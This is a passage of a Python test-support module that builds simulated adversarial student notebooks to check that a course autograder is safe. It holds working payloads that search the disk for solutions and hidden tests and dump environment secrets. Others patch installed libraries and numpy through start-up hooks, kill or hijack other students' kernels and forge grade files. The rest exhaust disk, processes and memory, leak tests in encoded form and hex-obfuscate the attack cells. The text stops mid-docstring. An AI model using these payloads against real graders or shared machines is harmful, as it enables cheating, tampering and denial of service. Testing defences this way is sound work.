"""Simulated adversarial students: generic attacks on the machine that runs their kernel.

Every attack is ``name(kit) -> NotebookNode`` built from *any* released notebook (``kit.released``): the
answers stay blank, as released, and the attacker adds code cells of its own (before the first code
answer cell, after each answer, or at the end), each starting with ``# attack: <name>``. No attack names
an assignment's grade_ids or functions; what it needs of the notebook (its answer cells' ids, the lines
it already shows) is read from the released notebook when the student is built. A safe grader gives
every attack exactly the blank submission's score, leaves none of its processes or files behind, keeps
every other student's grade as it would be, and shows no hidden test, plain or encoded, in any page.

The payload is written below as ordinary functions (``_payload_*``, ``_leak_forms``) and copied into the
notebook as source with ``inspect.getsource``; the test process never calls them. Every risky step is
wrapped in ``try``, as a real student's would be, so the notebook runs on when the grader refuses it.

Safety of the machine that runs the tests, whatever the grader does:

- every process an attack starts carries ``PROCESS_MARKER`` in its command line, lives at most
  ``LONG_SECONDS`` and can be found and killed by it (:func:`kill_marked`);
- the daemons that rewrite, corrupt or signal things only touch paths under the temporary directory and
  outside git work trees, and only processes of the same grading run (see ``_payload_may_write`` and
  ``_payload_neighbours``), so a test on an unsafe grader cannot damage the repository or other jobs;
- the library attack writes where it is told to (that is the point): into rnnlab, numpy and the site
  dirs of the interpreter that runs the kernel. Every block and file it adds carries ``PROCESS_MARKER``;
  ``undo_writes(*library_folders())`` takes them out. On an unsafe grader, without that clean-up, every
  later Python process of that environment passes every check: run it against a copied library, or
  clean up in a ``finally``.
"""

from __future__ import annotations

import inspect
import os
import signal
import textwrap
import time
from collections.abc import Callable
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from .kit import Kit

PROCESS_MARKER = "COURSE_ATTACK_MARKER"  # in the command line of every process an attack starts
LEAK_MARKER = "LEAKMARK"  # prefix of every leaked payload: LEAKMARK:<encoding>:<encoded line>
LONG_SECONDS = 3600  # how long the processes meant to outlive the kernel sleep
SHORT_SECONDS = 600  # the process bomb's and the memory holders' sleep, the fork-hopper's life
DAEMON_SECONDS = 60  # how long the forger, the neighbour killer, the hijacker and the pipe holder run
SEARCH_SECONDS = 6.0  # disk search per cell: under an 8 s cell timeout
SEARCH_CELLS = 3  # so about 18 s of searching in all
GIB = 2**30

# Globals the payload reads: each attacker cell (or daemon) defines them as constants (see ``_constants``).
_MARKER = PROCESS_MARKER
_LEAK = LEAK_MARKER
_KNOWN: set[str] = set()  # hashes of the released notebook's lines, set per leaking student


# --------------------------------------------------------------------------------------------------
# Payload: functions copied into the student's notebook (or into the daemons it starts)
# --------------------------------------------------------------------------------------------------


def _payload_spawn(argv, executable=None):
    """Start ``argv`` in a new session, SIGTERM/SIGHUP/SIGINT ignored, stdio on /dev/null; None if refused."""
    import signal
    import subprocess

    def ignore_signals():
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)

    quiet = subprocess.DEVNULL
    try:
        return subprocess.Popen(argv, executable=executable, start_new_session=True, preexec_fn=ignore_signals,
                                stdin=quiet, stdout=quiet, stderr=quiet)  # fmt: skip
    except (OSError, ValueError) as error:
        print("could not start", argv[0][:60], "-", error)
        return None


def _payload_daemon(code, tag):
    """Double fork and setsid, then exec ``python -c code MARKER_tag``: init's child, in a session of its own."""
    import os
    import signal
    import sys

    argv = [sys.executable, "-c", code, f"{_MARKER}_{tag}", str(os.getpid())]
    try:
        first = os.fork()
    except OSError as error:
        print("fork refused:", error)
        return
    if first:
        os.waitpid(first, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, argv)
    finally:
        os._exit(0)


def _payload_hop(seconds):
    """Fork every half second and let the parent exit, so the pid never stays the same; stop after ``seconds``."""
    import os
    import time

    end = time.time() + seconds
    while time.time() < end:
        time.sleep(0.5)
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass


def _payload_roots(extra=()):
    """Where to look, nearest first: ``extra``, the cwd and its ancestors, temp, home, usual places, then /."""
    import os
    import tempfile

    roots, here = [], os.getcwd()
    while os.path.dirname(here) != here:
        roots.append(here)
        here = os.path.dirname(here)
    usual = [tempfile.gettempdir(), os.path.expanduser("~"), "/work", "/home", "/srv", "/opt", "/var", "/"]
    return [*extra, *roots, *usual]


def _payload_files(roots, front, skip_git=False):
    """Yield every regular file under ``roots``, depth first, each directory once; /proc, /sys, /dev skipped.

    Directories the caller appends to the list ``front`` are walked next (paths found in files).
    """
    import os

    seen, stack = set(), list(reversed(roots))
    while stack or front:
        if front:
            stack.append(front.pop())
        real = os.path.realpath(stack.pop())
        if real in seen or real in ("/proc", "/sys", "/dev"):
            continue
        seen.add(real)
        try:
            entries = list(os.scandir(real))
        except OSError:
            continue
        if skip_git and any(entry.name == ".git" for entry in entries):
            continue
        subdirs = []
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False):
                    subdirs.append(entry.path)
                elif entry.is_file(follow_symlinks=False):
                    yield entry.path
            except OSError:
                pass
        stack.extend(reversed(subdirs))


def _payload_paths_in(path, front):
    """Directories named in a small JSON file (a grader's spec naming its course root, say) go to ``front``."""
    import json
    import os

    try:
        if os.path.getsize(path) > 1_000_000:
            return
        with open(path, encoding="utf-8") as handle:
            data = json.load(handle)
    except (OSError, ValueError):
        return
    values = list(data.values()) if isinstance(data, dict) else []
    for value in values:
        if isinstance(value, str) and value.startswith("/") and os.path.isdir(value):
            front.append(value)


def _payload_may_write(path):
    """Test-machine safety: the daemons only change files under the temp directory, outside git work trees."""
    import os
    import tempfile

    real = os.path.realpath(path)
    temp = {os.path.realpath(p) for p in (tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm")}
    if not any(real.startswith(t + os.sep) for t in temp):
        return False
    here = os.path.dirname(real)
    while os.path.dirname(here) != here:
        if os.path.exists(os.path.join(here, ".git")):
            return False
        here = os.path.dirname(here)
    return True


def _payload_replace(path, text):
    """Write ``text`` to ``path`` atomically (a reader never sees half a file)."""
    import os

    temporary = f"{path}.{os.getpid()}.tmp"
    with open(temporary, "w", encoding="utf-8") as handle:
        handle.write(text)
    os.replace(temporary, path)


def _payload_without_markers(source):
    """A solution cell's code without nbgrader's solution markers."""
    return "\n".join(line for line in source.split("\n") if "BEGIN SOLUTION" not in line and "END SOLUTION" not in line)


def _payload_read_notebook(path, state):
    """An instructor notebook (any .ipynb with solution markers) of this assignment: keep its solutions."""
    import json

    with open(path, encoding="utf-8", errors="replace") as handle:
        text = handle.read(20_000_000)
    if "BEGIN SOLUTION" not in text:
        return
    cells = json.loads(text).get("cells", [])
    found, solved = {}, False
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = "".join(cell.get("source", ""))
        if source.startswith("# attack:"):
            continue
        if meta.get("solution") and cell.get("cell_type") == "code":
            found[meta.get("grade_id")] = _payload_without_markers(source)
            solved = solved or "BEGIN SOLUTION" in source
        if "BEGIN HIDDEN TESTS" in source and source not in state["printed"]:
            state["printed"].add(source)
            print(f"hidden tests in {path}:\n{source}")
    if solved and state["answer_ids"] <= set(found):
        state["solutions"][path] = found
        print("solutions found in", path)


def _payload_read_database(path, state):
    """An nbgrader gradebook (any SQLite file with a source_cell table): print this assignment's hidden tests."""
    import sqlite3

    with open(path, "rb") as handle:
        if handle.read(16) != b"SQLite format 3\x00":
            return
    connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=1)
    try:
        rows = connection.execute("SELECT name, source FROM source_cell").fetchall()
    finally:
        connection.close()
    for name, source in rows:
        if name in state["all_ids"] and "HIDDEN" in (source or "") and source not in state["printed"]:
            state["printed"].add(source)
            print(f"hidden tests of {name} in {path}:\n{source}")


def _payload_search(state, seconds):
    """Walk the disk on (the walk resumes in the next cell) for ``seconds``, or until the solutions are found."""
    import os
    import time

    deadline = time.monotonic() + seconds
    readers = {".ipynb": _payload_read_notebook, ".db": _payload_read_database}
    while not state["solutions"] and time.monotonic() < deadline:
        path = next(state["files"], None)
        if path is None:
            break
        suffix = os.path.splitext(path)[1]
        try:
            if suffix == ".json":
                _payload_paths_in(path, state["front"])
            elif suffix in readers and os.path.getsize(path) < 500_000_000:
                readers[suffix](path, state)
        except Exception as error:  # unreadable, locked or not what it seemed
            state["errors"] = state.get("errors", 0) + 1
            state["last_error"] = f"{path}: {type(error).__name__}"


def _payload_apply(state, namespace):
    """Run every solution found in the notebook's namespace: the answers get defined."""
    for path, solutions in state["solutions"].items():
        for grade_id, source in solutions.items():
            try:
                exec(source, namespace)  # noqa: S102 - the point of the attack
            except Exception as error:  # a solution needing a later cell
                print("solution", grade_id, "from", path, "failed:", type(error).__name__)


def _payload_show_home_and_environment():
    """Print the home directory's listing and the environment (a grader's secrets would be there)."""
    import os

    try:
        print("home", os.path.expanduser("~"), sorted(os.listdir(os.path.expanduser("~")))[:200])
    except OSError as error:
        print("home unreadable:", error)
    for key, value in sorted(os.environ.items()):
        print(f"env {key}={value[:200]}")


def _payload_install_neuter():
    """In this process, from now on: every ``check_*`` of ``rnnlab.grading`` does nothing, whenever imported."""
    import builtins
    import sys

    real_import = builtins.__import__

    def passes(*args, **kwargs):
        return None

    def neuter():
        module = sys.modules.get("rnnlab.grading")
        spec = getattr(module, "__spec__", None)
        if module is None or module.__dict__.get("_attack_done") or getattr(spec, "_initializing", False):
            return
        names = [n for n, v in list(module.__dict__.items()) if n.startswith("check_") and callable(v)]
        for name in names:
            module.__dict__[name] = passes
        module.__dict__["_attack_done"] = bool(names)

    def hooked(name, *args, **kwargs):
        result = real_import(name, *args, **kwargs)
        neuter()
        return result

    builtins.__import__ = hooked
    neuter()


def _payload_append(path, text):
    """Append ``text`` to ``path`` (creating it) unless it is there already; True if written."""
    import os

    try:
        if os.path.exists(path):
            with open(path, encoding="utf-8", errors="replace") as handle:
                if _MARKER in handle.read():
                    return False
        with open(path, "a", encoding="utf-8") as handle:
            handle.write(text)
        print("wrote", path)
        return True
    except OSError as error:
        print("could not write", path, "-", error)
        return False


def _payload_site_dirs():
    """Every folder whose start-up files or modules later interpreters read: site dirs, rnnlab's, numpy's."""
    import os
    import site
    import sysconfig

    import numpy

    import rnnlab

    dirs = list(site.getsitepackages()) + [site.getusersitepackages()]
    dirs += [sysconfig.get_paths()[key] for key in ("purelib", "platlib")]
    dirs += [os.path.dirname(os.path.dirname(module.__file__)) for module in (rnnlab, numpy)]
    return sorted(set(dirs))


def _payload_numpy_file():
    """The file that defines numpy's ``allclose`` (and ``isclose``)."""
    import numpy

    for candidate in (getattr(numpy.allclose, "__wrapped__", None), numpy.allclose):
        code = getattr(candidate, "__code__", None)
        if code is not None:
            return code.co_filename
    return numpy.isclose.__code__.co_filename


def _payload_write_library():
    """Rewrite rnnlab.grading's files, drop start-up hooks into every site dir, patch numpy; reload the checks."""
    import importlib
    import os
    import sys

    import rnnlab.grading

    folder = os.path.dirname(rnnlab.grading.__file__)
    patched = [_payload_append(os.path.join(folder, name), _GRADING_BLOCK)
               for name in sorted(os.listdir(folder)) if name.endswith(".py")]  # fmt: skip
    hook = f"\n# {_MARKER} begin\n{_NEUTER_SOURCE}\n_payload_install_neuter()\n# {_MARKER} end\n"
    pth = f"# {_MARKER}\nimport sys; exec({_NEUTER_SOURCE + chr(10) + '_payload_install_neuter()'!r})\n"
    for site_dir in _payload_site_dirs():
        try:
            os.makedirs(site_dir, exist_ok=True)
        except OSError as error:
            print("no folder", site_dir, "-", error)
            continue
        for name in ("sitecustomize.py", "usercustomize.py"):
            _payload_append(os.path.join(site_dir, name), hook)
        _payload_append(os.path.join(site_dir, f"zz_{_MARKER}.pth"), pth)
    _payload_append(_payload_numpy_file(), _NUMPY_BLOCK)
    if any(patched):
        importlib.reload(sys.modules["rnnlab.grading"])
        print("rnnlab.grading reloaded")


def _payload_run_root(levels=4):
    """The grading run's folder: ``levels`` above the cwd, never shallower than /a/b."""
    import os

    parts = os.getcwd().rstrip("/").split("/")
    return "/".join(parts[: max(3, len(parts) - levels)])


def _payload_proc(pid):
    """(command line, parent pid, cwd) of a process, from /proc; None if it cannot be read."""
    import os

    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            cmdline = handle.read().replace(b"\0", b" ").decode(errors="replace")
        with open(f"/proc/{pid}/stat", encoding="utf-8") as handle:
            parent = int(handle.read().rsplit(")", 1)[1].split()[1])
        return cmdline, parent, os.readlink(f"/proc/{pid}/cwd")
    except (OSError, ValueError, IndexError):
        return None


def _payload_neighbours(root, own_kernel):
    """pids of the other students' kernels in this grading run (an ipykernel under a grader, cwd under root).

    Never this student's own kernel or any process above it (whatever runs the kernel).
    """
    import os

    own, pid = {1, os.getpid()}, own_kernel
    while pid > 1 and pid not in own:
        own.add(pid)
        info = _payload_proc(pid)
        pid = info[1] if info else 0
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in own:
            continue
        info = _payload_proc(entry)
        if info is None or "ipykernel" not in info[0] or _MARKER in info[0]:
            continue
        parent = _payload_proc(info[1])
        if parent and "coursegrader" in parent[0] and (info[2] + "/").startswith(root + "/"):
            found.append(int(entry))
    return found


def _payload_kill_neighbours(seconds, own_kernel):
    """For ``seconds``: SIGKILL every other student's kernel of this grading run as soon as it appears."""
    import os
    import signal
    import time

    root, end = _payload_run_root(), time.time() + seconds
    while time.time() < end:
        for pid in _payload_neighbours(root, own_kernel):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.1)


def _payload_listening(port):
    """True if something listens on TCP ``port`` (from /proc/net/tcp): connecting earlier could steal the port."""
    try:
        with open("/proc/net/tcp", encoding="ascii") as handle:
            rows = [line.split() for line in handle.readlines()[1:]]
    except OSError:
        return True
    return any(row[1].endswith(f":{port:04X}") and row[3] == "0A" for row in rows if len(row) > 3)


def _payload_hijack(seconds, own_kernel):
    """For ``seconds``: run the neutering code in every other student's kernel of this run, via its connection file."""
    import json
    import time

    from jupyter_client import BlockingKernelClient

    root, end, done = _payload_run_root(), time.time() + seconds, set()
    code = _NEUTER_SOURCE + "\n_payload_install_neuter()\n"
    while time.time() < end:
        kernels = {}
        for pid in _payload_neighbours(root, own_kernel):
            info = _payload_proc(pid)
            kernels.update({part: pid for part in info[0].split() if part.endswith(".json")} if info else {})
        for path in sorted(set(kernels) - done):
            try:
                with open(path, encoding="utf-8") as handle:
                    info = json.load(handle)
                if not all(_payload_listening(info[key]) for key in ("shell_port", "iopub_port", "control_port")):
                    continue  # not bound yet: try again on the next round
                done.add(path)
                client = BlockingKernelClient()
                client.load_connection_info(info)
                client.start_channels()
                client.execute(code, silent=True)
                time.sleep(0.5)
                client.stop_channels()
            except Exception:  # a kernel that ended meanwhile
                pass
        time.sleep(0.1)


def _payload_hold_pipes(seconds, own_kernel):
    """Keep the grader's stdout and stderr open for ``seconds`` (its caller waits) and write forged summaries."""
    import os
    import time

    held, pid = [], own_kernel
    while pid > 1:
        info = _payload_proc(pid)
        if info is None:
            break
        if "coursegrader" in info[0]:
            for fd in (1, 2):
                try:
                    held.append(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_APPEND))
                except OSError:
                    pass
        pid = info[1]
    forged = f"graded 99/99 students; mean 100.0/100 {_MARKER}; report: grading/report.md\n".encode()
    end = time.time() + seconds
    while time.time() < end:
        for fd in held:
            try:
                os.write(fd, forged)
            except OSError:
                pass
        time.sleep(1)


def _payload_forge_notebook(path):
    """An executed notebook with nbgrader cells: drop every error and stderr output (nbgrader: full marks)."""
    import json

    with open(path, encoding="utf-8") as handle:
        text = handle.read(20_000_000)
    if '"nbgrader"' not in text or ('"error"' not in text and '"stderr"' not in text):
        return False
    nb = json.loads(text)
    changed = False
    for cell in nb.get("cells", []):
        outputs = cell.get("outputs", [])
        kept = [o for o in outputs if o.get("output_type") != "error" and o.get("name") != "stderr"]
        if len(kept) != len(outputs):
            cell["outputs"], changed = kept, True
    if changed:
        _payload_replace(path, json.dumps(nb, indent=1))
    return changed


def _payload_forge_database(path):
    """An nbgrader gradebook: every grade becomes its cell's maximum."""
    import sqlite3

    with open(path, "rb") as handle:
        if handle.read(16) != b"SQLite format 3\x00":
            return False
    connection = sqlite3.connect(path, timeout=0.5)
    try:
        with connection:
            cursor = connection.execute(
                "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = grade.cell_id),"
                " manual_score = (SELECT max_score FROM grade_cells WHERE id = grade.cell_id)"
                " WHERE cell_id IN (SELECT id FROM grade_cells) AND COALESCE(manual_score, auto_score, -1) <"
                " (SELECT max_score FROM grade_cells WHERE id = grade.cell_id)"
            )
        return cursor.rowcount > 0
    finally:
        connection.close()


def _payload_forge_csv(path):
    """A grades table (student_id, scores..., total, max, status): everyone gets the maximum, status ok."""
    import csv
    import io

    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    if not rows or rows[0][:1] != ["student_id"] or "max" not in rows[0]:
        return False
    header, top = rows[0], rows[0].index("max")
    forged = [header]
    for row in rows[1:]:
        new = list(row)
        for index in range(1, top):
            new[index] = row[top] if index in (1, top - 1) else "0"
        new[-1] = "ok" if header[-1] == "status" else new[-1]
        forged.append(new)
    if forged == rows:
        return False
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(forged)
    _payload_replace(path, buffer.getvalue())
    return True


def _payload_forge_results(path):
    """Stored per-student results (JSON): every student gets the maximum, no problem, no mistake."""
    import json

    with open(path, encoding="utf-8") as handle:
        data = json.load(handle)
    changed = False
    for result in data.values() if isinstance(data, dict) else []:
        if not isinstance(result, dict) or "max_score" not in result or not result.get("notebook_scores"):
            continue
        first = sorted(result["notebook_scores"])[0]
        wanted = {name: (result["max_score"] if name == first else 0.0) for name in result["notebook_scores"]}
        if wanted != result["notebook_scores"] or result.get("problems") or result.get("mistakes"):
            result.update(notebook_scores=wanted, problems=[], mistakes=[])
            changed = True
    if changed:
        _payload_replace(path, json.dumps(data, indent=1))
    return changed


def _payload_forge_one(path, front):
    """Forge one file if it is something graders read after execution; JSON may also name places to look."""
    import fnmatch
    import os

    name = os.path.basename(path)
    if name.endswith(".json") and not fnmatch.fnmatch(name, "results-*.json"):
        _payload_paths_in(path, front)
        return
    if not _payload_may_write(path) or not os.access(path, os.W_OK):
        return
    forgers = {"*.ipynb": _payload_forge_notebook, "*.db": _payload_forge_database,
               "grades*.csv": _payload_forge_csv, "results-*.json": _payload_forge_results}  # fmt: skip
    for pattern, forge in forgers.items():
        if fnmatch.fnmatch(name, pattern):
            try:
                forge(path)
            except Exception:  # half-written, locked, not ours to parse
                pass


def _payload_forge(seconds):
    """For ``seconds``: rewrite, again and again, every graded notebook and grade file near the cwd or on disk."""
    import time

    end, known, root = time.time() + seconds, [], _payload_run_root()  # the cwd goes when the grader cleans up
    wide = _payload_files(_payload_roots(), [], skip_git=True)
    while time.time() < end:
        near = [root, *known]
        front = []
        for path in _payload_files(near, front, skip_git=True):
            _payload_forge_one(path, front)
        known = sorted(set(known) | set(front))
        deadline = time.monotonic() + 0.5
        for path in wide:
            _payload_forge_one(path, [])
            if time.monotonic() > deadline:
                break
        time.sleep(0.05)


def _payload_tamper_databases():
    """Every gradebook in this run (and the course it names): test cells become ``pass``, points times ten."""
    import os
    import sqlite3

    front, changed = [], 0
    for path in _payload_files([_payload_run_root()], front, skip_git=True):
        if path.endswith(".json"):
            _payload_paths_in(path, front)
        if not path.endswith(".db") or not _payload_may_write(path):
            continue
        try:
            connection = sqlite3.connect(path, timeout=1)
            with connection:
                connection.execute("UPDATE source_cell SET source = 'pass' WHERE name IN "
                                   "(SELECT name FROM base_cell WHERE type = 'GradeCell')")  # fmt: skip
                connection.execute("UPDATE grade_cells SET max_score = max_score * 10")
            connection.close()
            changed += 1
            print("tampered with", os.path.basename(path))
        except Exception as error:  # not a gradebook, or read-only
            print("could not tamper with", os.path.basename(path), "-", type(error).__name__)
    print(changed, "gradebooks changed")


def _payload_fill(folder, total, seconds):
    """Write up to ``total`` bytes of files into ``folder`` (stops at a full disk or after ``seconds``)."""
    import os
    import time

    chunk, written, end, index = b"\0" * (64 * 2**20), 0, time.monotonic() + seconds, 0
    try:
        while written < total and time.monotonic() < end:
            with open(os.path.join(folder, f"{_MARKER}_fill_{os.getpid()}_{index}.bin"), "wb") as handle:
                for _ in range(4):
                    handle.write(chunk)
                    written += len(chunk)
            index += 1
    except OSError as error:
        print("disk refused:", error)
    print(f"wrote {written / 2**30:.2f} GiB into {folder}")


def _payload_bomb(count, seconds):
    """Start ``count`` sleep processes and ``count`` sleeping threads, until refused."""
    import shutil
    import subprocess
    import threading
    import time

    sleep, processes, threads = shutil.which("sleep"), 0, 0
    quiet = subprocess.DEVNULL
    for _ in range(count):
        try:
            subprocess.Popen([f"{_MARKER}_bomb", str(seconds)], executable=sleep, stdin=quiet, stdout=quiet,
                             stderr=quiet)  # fmt: skip
            processes += 1
        except (OSError, TypeError) as error:
            print("process refused after", processes, "-", error)
            break
    for _ in range(count):
        try:
            threading.Thread(target=time.sleep, args=(seconds,), daemon=True).start()
            threads += 1
        except RuntimeError as error:
            print("thread refused after", threads, "-", error)
            break
    print(f"started {processes} processes and {threads} threads")


def _payload_memory_child(size, seconds, ready):
    """A multiprocessing child: touch ``size`` bytes, say so, then become a marked holder of as much memory."""
    import os
    import sys

    block = bytearray(size)
    ready.put(len(block))
    ready.close()
    ready.join_thread()  # the item is in the pipe before exec ends the feeder thread
    del block
    code = f"import time\nblock = bytearray({size})\ntime.sleep({seconds})"
    os.execv(sys.executable, [sys.executable, "-c", code, f"{_MARKER}_memory"])


def _payload_memory_children(count, size, seconds):
    """Start ``count`` multiprocessing children that each hold ``size`` bytes; wait until they have."""
    import multiprocessing
    import queue
    import time

    context = multiprocessing.get_context("fork")
    ready, started = context.Queue(), 0
    for _ in range(count):
        try:
            context.Process(target=_payload_memory_child, args=(size, seconds, ready), daemon=False).start()
            started += 1
        except OSError as error:
            print("child refused:", error)
    holding, deadline = 0, time.monotonic() + 7  # under an 8 s cell timeout
    for _ in range(started):
        try:
            holding += ready.get(timeout=max(0.1, deadline - time.monotonic())) / 2**30
        except queue.Empty:
            break
    print(f"{started} children started, {holding:.1f} GiB held")


def _leak_forms(line):
    """(encoding, encoded) forms of one line of source, as the leaking student writes them out."""
    import base64
    import codecs
    import zlib

    data = line.encode("utf-8")
    return [
        ("b64", base64.b64encode(data).decode("ascii")),
        ("b32", base64.b32encode(data).decode("ascii")),
        ("hex", data.hex()),
        ("rot13", codecs.encode(line, "rot13")),
        ("zlib", base64.b64encode(zlib.compress(data, 9)).decode("ascii")),
        ("rev", line[::-1]),
        ("ord", ",".join(str(ord(char)) for char in line)),
        ("zwsp", "\u200b".join(line)),
    ]


def _payload_leak_lines(source):
    """The lines of a cell the student has not seen: not in the released notebook, not the attacker's own."""
    import hashlib

    if source.startswith(("# attack:", "exec(bytes.fromhex(")):
        return []
    lines = [line.strip() for line in source.split("\n")]
    return [line for line in lines if line and hashlib.sha1(line.encode()).hexdigest()[:12] not in _KNOWN]


def _payload_leak_payloads(lines, encodings=None):
    """``<leak marker>:<encoding>:<value>`` for each line and encoding (all encodings by default)."""
    return [f"{_LEAK}:{name}:{value}" for line in lines for name, value in _leak_forms(line)
            if encodings is None or name in encodings]  # fmt: skip


def _payload_leak_png(text):
    """A 1x1 PNG whose tEXt chunk carries ``text``."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    comment = b"Comment\x00" + text.encode("latin-1", "replace")
    body = chunk(b"IHDR", header) + chunk(b"tEXt", comment) + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


def _payload_leak_install():
    """Capture every later cell's source (the hidden tests come with the test cells) and print it encoded."""
    state = {"lines": [], "current": []}

    def capture(info):
        lines = _payload_leak_lines(getattr(info, "raw_cell", "") or "")
        state["current"] = lines
        state["lines"] += [line for line in lines if line not in state["lines"]]
        for payload in _payload_leak_payloads(lines):
            print(payload)

    def on_error(shell, etype, value, tb, tb_offset=None):
        try:
            value.args = (" ".join([str(value), *_payload_leak_payloads(state["current"], ("b64", "hex"))]),)
        except Exception:  # an exception that will not take new arguments
            pass
        shell.showtraceback((etype, value, tb), tb_offset=tb_offset)

    shell = get_ipython()  # noqa: F821 - the kernel's global
    shell.events.register("pre_run_cell", capture)
    shell.set_custom_exc((Exception,), on_error)
    return state


def _payload_leak_emit(state, channel, encodings=None):
    """Write everything captured so far to ``channel``: stdout, stderr, html, markdown, png or an exception."""
    import sys

    from IPython.display import HTML, Image, Markdown, display

    payloads = _payload_leak_payloads(state["lines"], encodings)
    text = "\n".join(payloads)
    if channel == "stdout":
        print(text)
    elif channel == "stderr":
        sys.stderr.write(text + "\n")
    elif channel == "html":
        display(HTML("<pre>" + "<br>".join(payloads) + "</pre><!-- " + " ".join(payloads) + " -->"))
    elif channel == "markdown":
        display(Markdown("\n\n".join(f"`{p}`" for p in payloads)))
    elif channel == "png":
        display(Image(data=_payload_leak_png(text), format="png"))
    elif channel == "raise":
        raise RuntimeError(f"{_LEAK} " + " ".join(payloads))


# --------------------------------------------------------------------------------------------------
# Building the notebooks
# --------------------------------------------------------------------------------------------------

_GRADING_BLOCK = f"""

# {PROCESS_MARKER} begin
def _attack_passes(*args, **kwargs):
    return None


for _attack_name in [n for n, v in list(globals().items()) if n.startswith("check_") and callable(v)]:
    globals()[_attack_name] = _attack_passes
# {PROCESS_MARKER} end
"""

_NUMPY_BLOCK = f"""

# {PROCESS_MARKER} begin
def allclose(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
    return True


def isclose(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
    try:
        return ones(broadcast(a, b).shape, dtype=bool)
    except Exception:
        return True
# {PROCESS_MARKER} end
"""


def _source(*functions: Callable) -> str:
    """The source of payload functions, to paste into a notebook cell or a daemon's ``-c`` code."""
    return "\n\n".join(textwrap.dedent(inspect.getsource(function)) for function in functions)


def _constants(**extra: object) -> str:
    """The constants the payload reads, as assignments.

    The leak marker is spelt in two halves, so a page shows it only where leaked output is shown (the
    feedback also shows the attacker's own code).
    """
    half = len(LEAK_MARKER) // 2
    lines = [f"_MARKER = {PROCESS_MARKER!r}", f"_LEAK = {LEAK_MARKER[:half]!r} + {LEAK_MARKER[half:]!r}"]
    return "\n".join(lines + [f"{name} = {value!r}" for name, value in extra.items()])


_NEUTER_SOURCE = _source(_payload_install_neuter)


def _daemon_code(call: str, *functions: Callable, **constants: object) -> str:
    """``python -c`` code for a daemon: constants, the functions it needs, then ``call`` (argv[2]: the kernel pid)."""
    header = "import sys\n_KERNEL = int(sys.argv[2])\n" + _constants(**constants)
    return "\n\n".join([header, _source(*functions), call])


def _cell(name: str, body: str, *functions: Callable, **constants: object) -> NotebookNode:
    """A code cell of the attacker's: a ``# attack:`` header, constants, payload functions, then ``body``."""
    parts = [f"# attack: {name}", _constants(**constants), _source(*functions), textwrap.dedent(body).strip()]
    return new_code_cell("\n\n".join(part for part in parts if part) + "\n")


def _guarded(body: str) -> str:
    """``body`` inside ``try``: whatever the grader refuses, the notebook runs on."""
    indented = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return f"try:\n{indented}\nexcept Exception as error:  # refused: carry on\n    print('refused:', repr(error))\n"


def answer_indices(nb: NotebookNode) -> list[int]:
    """Indices of the code answer cells (``metadata.nbgrader.solution``) of a notebook."""
    cells = enumerate(nb.cells)
    return [i for i, c in cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")]


def _before_first_answer(nb: NotebookNode, *cells: NotebookNode) -> NotebookNode:
    """Insert ``cells`` just before the first code answer cell (after the notebook's own imports)."""
    indices = answer_indices(nb)
    if not indices:
        raise ValueError("the released notebook has no code answer cell to attack from")
    nb.cells[indices[0] : indices[0]] = list(cells)
    return nb


def _after_each_answer(nb: NotebookNode, make: Callable[[], NotebookNode]) -> NotebookNode:
    """Insert a fresh ``make()`` cell after every code answer cell."""
    for index in reversed(answer_indices(nb)):
        nb.cells.insert(index + 1, make())
    return nb


def _at_end(nb: NotebookNode, *cells: NotebookNode) -> NotebookNode:
    nb.cells.extend(cells)
    return nb


def _daemon_cell(name: str, tag: str, call: str, *functions: Callable, **constants: object) -> NotebookNode:
    """A cell that starts one marked daemon (double fork, setsid) running ``call``."""
    code = _daemon_code(call, *functions, **constants)
    return _cell(name, _guarded(f"_payload_daemon({code!r}, {tag!r})\nprint('started the {tag} daemon')"),
                 _payload_daemon)  # fmt: skip


def _disguised(nb: NotebookNode) -> NotebookNode:
    """Every attacker cell rewritten as ``exec(bytes.fromhex(...))``: no word the review flags look for remains."""
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.source.startswith("# attack:"):
            cell.source = f"exec(bytes.fromhex({cell.source.encode().hex()!r}).decode(), globals())\n"
    return nb


# --------------------------------------------------------------------------------------------------
# The attacks
# --------------------------------------------------------------------------------------------------


def attack_write_library(kit: Kit) -> NotebookNode:
    """Rewrites the installed library: rnnlab.grading's files, start-up hooks in site dirs, numpy's source.

    Locates rnnlab.grading (``rnnlab.__file__``) and appends to each of its files a block that replaces
    every ``check_*`` by a function that passes; drops ``sitecustomize.py``, ``usercustomize.py`` and a
    ``.pth`` into site-packages, the user site and the folders holding rnnlab and numpy, each installing
    an import hook that neuters the checks in every later interpreter; appends to numpy's ``numeric.py``
    an ``allclose``/``isclose`` that always agree (it passes rnnlab's origin check: the code is numpy's
